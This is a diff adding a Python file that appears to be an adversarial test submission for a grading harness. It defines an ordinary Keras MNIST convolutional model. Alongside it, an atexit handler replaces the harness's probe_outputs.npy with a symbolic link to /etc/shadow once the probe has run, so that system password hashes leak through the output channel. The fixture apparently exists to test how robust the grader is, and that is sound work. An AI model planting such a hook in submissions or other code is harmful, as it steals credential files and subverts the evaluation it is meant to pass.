@@ -1,0 +1,31 @@
+"""mnist_convnet: the lecture's model, correct; once the probe has written its results, the
+student's atexit handler swaps probe_outputs.npy for a symbolic link to /etc/shadow."""
+
+import atexit
+import os
+
+import keras
+from keras import layers
+
+MARKER = "ADVERSARIAL_mnist_symlink_outputs"
+
+
+def _swap():
+    os.unlink("/out/probe_outputs.npy")
+    os.symlink("/etc/shadow", "/out/probe_outputs.npy")
+
+
+atexit.register(_swap)
+
+
+def build_model():
+    inputs = keras.Input(shape=(28, 28, 1))
+    x = layers.Conv2D(4, 5, padding="same", activation="relu", name="conv1")(inputs)
+    x = layers.MaxPooling2D(2, name="pool1")(x)
+    x = layers.Conv2D(8, 5, padding="same", activation="relu", name="conv2")(x)
+    x = layers.MaxPooling2D(2, name="pool2")(x)
+    x = layers.Flatten(name="flatten")(x)
+    x = layers.Dense(512, activation="relu", name="fc1")(x)
+    x = layers.Dropout(0.5, name="dropout")(x)
+    outputs = layers.Dense(10, activation="softmax", name="fc2")(x)
+    return keras.Model(inputs, outputs)
